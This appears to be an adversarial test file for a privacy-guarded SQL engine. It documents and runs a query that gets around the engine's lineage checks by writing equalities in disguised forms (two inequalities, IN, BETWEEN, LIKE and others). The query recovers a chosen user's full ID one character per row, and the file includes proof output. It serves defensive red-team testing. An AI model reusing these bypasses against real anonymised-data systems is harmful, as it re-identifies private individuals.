-- attack: the full user_id (VERY_HIGH) of the person behind one chosen impression, one hex character per output row
-- mechanism: 7
-- expect-at: 22:10
-- leak: the full user_id (VERY_HIGH) of the person behind one chosen impression, one hex
--   character per output row. amcq check: 0 errors; amcq run prints 32 rows whose
--   hex_char column, sorted by position, spells the user_id.
-- mechanism: "ON/WHERE equalities carry lineage" only recognizes a plain `a = b`.
--   The same equality written as two inequalities (also accepted: `x IN (y)`,
--   `x BETWEEN y AND y`, `x LIKE y`, `NOT (x <> y)`, `x = y OR 1 = 0`,
--   `CASE WHEN x = y THEN 1 ELSE 0 END = 1`, `CONCAT(x, y) = CONCAT(y, y)`) leaves the
--   data-built alphabet column a.ch without user_id lineage, so it may be output.
--   The target is chosen with a MEDIUM literal (allowed), wrapped in MIN(CASE ...) over
--   the whole table so that t's path has all 3000 users; alpha's rows have >= 2 users.
--   The identifier guard (src/guard.c) checks whole cells / words >= 8 chars, so one
--   character per cell passes it.
-- run:   build/amcq run --db /tmp/rt.db --format csv tests/adversarial/run_open/01_user_id_of_chosen_impression_by_range_equality.sql
--        (fixture: build/amcq gen --out /tmp/rt.db --users 3000 --days 30 --seed 7 --quiet)
-- output (sorted by position, hex_char concatenated): ef33b7dcd3d026989af7967067a990e5
-- proof: sqlite3 /tmp/rt.db "SELECT user_id FROM dsp_impressions WHERE impression_dt = '2025-06-11 05:40:07'"
--        -> ef33b7dcd3d026989af7967067a990e5
WITH t AS (
  SELECT MIN(CASE WHEN impression_dt = '2025-06-11 05:40:07' THEN user_id END) AS u
  FROM dsp_impressions
),
pos (p) AS (VALUES (1), (2), (3), (4), (5), (6), (7), (8), (9), (10), (11), (12), (13), (14), (15), (16),
  (17), (18), (19), (20), (21), (22), (23), (24), (25), (26), (27), (28), (29), (30), (31), (32)),
camps AS (SELECT campaign FROM dsp_impressions GROUP BY campaign),
alpha AS (
  SELECT RIGHT(CAST(impression_hour AS VARCHAR), 1) AS ch FROM dsp_impressions GROUP BY 1
  UNION
  SELECT LOWER(SUBSTRING(c.campaign, q.p, 1)) AS ch FROM camps c CROSS JOIN pos q
)
SELECT pos.p AS position, a.ch AS hex_char, COUNT(*) AS n
FROM pos CROSS JOIN alpha a CROSS JOIN t
WHERE SUBSTRING(t.u, pos.p, 1) <= a.ch AND SUBSTRING(t.u, pos.p, 1) >= a.ch
GROUP BY pos.p, a.ch
